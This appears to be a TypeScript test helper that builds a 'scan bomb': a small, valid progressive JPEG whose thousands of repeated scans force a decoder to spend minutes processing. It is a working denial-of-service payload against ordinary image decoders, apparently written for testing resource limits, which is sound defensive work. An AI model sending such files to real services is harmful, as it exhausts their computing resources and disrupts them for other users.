import { jpegSegment } from './jpeg-parts.ts'

/** Most significant bit first, with the zero byte that JPEG requires after 0xFF. */
function entropyBytes(bits: string) {
  const bytes: number[] = []
  for (let at = 0; at < bits.length; at += 8) {
    const byte = Number.parseInt(bits.slice(at, at + 8).padEnd(8, '1'), 2)
    bytes.push(byte)
    if (byte === 0xff) bytes.push(0)
  }
  return Buffer.from(bytes)
}

const table = (place: number, symbol: number) =>
  jpegSegment(0xc4, Buffer.from([place, 1, ...Array.from({ length: 15 }, () => 0), symbol]))

const scan = (tables: number, from: number, to: number, data: Buffer) =>
  Buffer.concat([jpegSegment(0xda, Buffer.from([1, 1, tables, from, to, 0])), data])

const LONGEST_RUN = 32_767

/** Valid, about 97 bytes per scan. Each scan makes a decoder visit all blocks: 20,000 of them take three minutes. */
export function scanBomb({ side = 8000, scans }: { side?: number; scans: number }) {
  const blocks = Math.ceil(side / 8) ** 2
  const frame = Buffer.from([8, 0, 0, 0, 0, 1, 1, 0x11, 0])
  frame.writeUInt16BE(side, 1)
  frame.writeUInt16BE(side, 3)
  const quantisers = Buffer.alloc(65, 1)
  quantisers[0] = 0

  // One run of "no more coefficients" covers 32,767 blocks: code 0, then 14 ones.
  const runs = entropyBytes(`0${'1'.repeat(14)}`.repeat(Math.ceil(blocks / LONGEST_RUN)))
  const again = scan(0x00, 1, 63, runs)
  return Buffer.concat([
    Buffer.from([0xff, 0xd8]),
    jpegSegment(0xdb, quantisers),
    jpegSegment(0xc2, frame),
    table(0x00, 0x00),
    table(0x10, 0xe0),
    scan(0x00, 0, 0, Buffer.alloc(Math.ceil(blocks / 8))),
    ...Array.from({ length: scans - 1 }, () => again),
    Buffer.from([0xff, 0xd9]),
  ])
}
